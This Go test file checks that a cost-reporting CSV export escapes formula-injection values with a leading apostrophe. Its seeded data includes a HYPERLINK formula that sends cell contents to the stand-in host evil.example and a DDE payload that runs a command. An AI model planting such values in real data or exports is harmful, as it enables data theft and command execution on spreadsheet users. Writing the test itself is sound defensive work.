package main

import (
	"context"
	"encoding/csv"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/tokenmeter/tokenmeter/deploy/summary/summarytest"
	"github.com/tokenmeter/tokenmeter/testkit/chtest"
)

// TestExportCSVNeutralisesFormulas performs the attack: events whose client-chosen team,
// feature, env, cost centre, provider and model start with = + - @ tab or CR reach
// ClickHouse, and the showback export must write each as text, with a leading apostrophe.
func TestExportCSVNeutralisesFormulas(t *testing.T) {
	conn := chtest.Conn(t)
	at := time.Date(2026, time.November, 3, 12, 0, 0, 0, time.UTC)
	db := summarytest.Seed(t, conn, []summarytest.Event{
		{ID: "x1", Time: at, Provider: "@SUM(1+1)*cmd|' /C calc'!A0", Model: "\tgpt", ModelPriced: "",
			Team: `=HYPERLINK("http://evil.example/?x="&A1,"click")`, Feature: "+1+1", Env: "-2+3", CostCenter: "\r=1",
			Traffic: "user", Input: 1, Output: 1, Cost: "0", Savings: "0"},
		{ID: "x2", Time: at, Provider: "openai", Model: "gpt-4o", ModelPriced: "gpt-4o",
			Team: "a=b", Feature: "chat", Env: "prod", CostCenter: "cc-1", Traffic: "user", Input: 1, Output: 1, Cost: "1", Savings: "0"},
	})
	out := filepath.Join(t.TempDir(), "nov.csv")
	if err := export(context.Background(), conn, db, exportConfig{Month: "2026-11", Format: "csv", Out: out}, io.Discard); err != nil {
		t.Fatal(err)
	}
	f, err := os.Open(out)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	recs, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var got []string
	for _, r := range recs[1:] {
		got = append(got, strings.Join(r[1:7], " | "))
	}
	want := []string{
		`'=HYPERLINK("http://evil.example/?x="&A1,"click") | '` + "\r=1 | '+1+1 | '-2+3 | '@SUM(1+1)*cmd|' /C calc'!A0 | '\tgpt",
		"a=b | cc-1 | chat | prod | openai | gpt-4o",
	}
	if strings.Join(got, "\n") != strings.Join(want, "\n") {
		t.Errorf("text cells:\n%q\nwant:\n%q", got, want)
	}
}

func TestCellText(t *testing.T) {
	f := func(in, want string) {
		t.Helper()
		if got := cellText(in); got != want {
			t.Errorf("cellText(%q) = %q, want %q", in, got, want)
		}
	}
	f("", "")
	f("search", "search")
	f("=1+1", "'=1+1")
	f("+1", "'+1")
	f("-1", "'-1")
	f("@x", "'@x")
	f("\tx", "'\tx")
	f("\rx", "'\rx")
	f("x=1", "x=1")
	f("'=1", "'=1")
}
